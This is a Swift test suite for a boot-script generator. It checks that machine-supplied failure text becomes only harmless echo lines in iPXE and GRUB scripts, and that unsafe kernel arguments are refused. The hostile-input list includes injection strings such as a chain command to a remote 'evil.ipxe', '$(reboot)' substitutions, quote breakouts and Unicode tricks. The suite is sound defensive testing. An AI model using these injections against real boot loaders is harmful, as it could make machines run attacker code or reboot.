import Testing
import Wire

@testable import Fleet

/// Texts from machines in scripts that other machines execute.
@Suite struct LoaderScriptTests {
    /// Each byte that is not a letter, loader syntax, text-direction marks, and too much text.
    private static let hostile: [String] =
        (0..<0x30).map { "a\(Character(Unicode.Scalar(UInt8($0))))b" } + [
            "x && chain http://10.77.0.66/evil.ipxe || y", "x; reboot", "x || goto failed", "${net0/ip}",
            "$(reboot)",
            "`reboot`", "' ; reboot ; echo '", "\" ; reboot", "\\'", "{ reboot }",
            "a\r\nchain http://10.77.0.66/",
            "a\u{2028}reboot", "a\u{85}reboot", "\u{202E}toober", "\u{1B}[2J", "\u{7F}", "#!ipxe", "<(x)",
            ">x",
            String(repeating: "&& ", count: 22_000),
        ]

    /// The screen of a held machine: the text of its failure report.
    private func plan(showing text: String) throws -> BootPlan {
        let trouble = BootTrouble(
            version: Sample.digest("a"), failedBoots: 3, lastBootAt: 1, detail: text)
        let snapshot = try Sample.snapshot(site: ["boot-brake": .integer(1)]).observing {
            $0.troubles[Sample.mac] = trouble
        }
        return bootPlan(
            for: BootIdentity(macAddress: Sample.mac), in: snapshot, under: Sample.policy())
    }

    @Test(arguments: hostile) func `a machine's text is only text on a screen, whatever it contains`(
        text: String
    ) throws {
        let (harmless, held) = (try plan(showing: "a"), try plan(showing: text))
        guard case .nothing(let because) = held.target else {
            Issue.record("the machine is not held")
            return
        }
        #expect(because.english.contains("held after 3 failed boots"))
        let memory = MachineMemory(mebibytes: 512)
        for (script, plain) in [
            (BootScript.ipxe(held, memory: memory).text, BootScript.ipxe(harmless, memory: memory).text),
            (BootScript.grub(held).text, BootScript.grub(harmless).text),
        ] {
            let (lines, expected) = (script.split(separator: "\n"), plain.split(separator: "\n"))
            #expect(lines.count == expected.count)
            for (line, other) in zip(lines, expected) where line != other {
                #expect(line.hasPrefix("echo ") && line.utf8.count <= 500)
                #expect(!line.contains("Asking"))
                let said = line.dropFirst(5).filter { $0 != "'" }
                #expect(
                    said.utf8.allSatisfy {
                        (0x20...0x7E).contains($0) && !#"\;&|$`{}#'"#.utf8.contains($0)
                    }, "\(line)")
            }
        }
    }

    @Test func `kernel words with loader syntax are refused as a setting, and never passed on`() {
        for word in [
            "a;b", "a&&b", "${x}", "a|b", "`a`", "a\"b", "a'b", "a#b", "<a", "a>b", "a b", "a\\b", "", "é",
        ] {
            #expect(!KernelWords.isWord(word), "\(word)")
            #expect(Settings.kernelArguments.definition.problem(.list(["quiet", word])) != nil)
            #expect(KernelWords(["quiet", word, "ro"]).loaderText == "quiet ro")
        }
        for word in [
            "quiet", "console=ttyS0,115200n8", "root=/dev/nbd0", "a=[b]", "video=HDMI-A-1:1024x768@60",
            "x=~1%",
        ] {
            #expect(KernelWords.isWord(word), "\(word)")
        }
    }
}
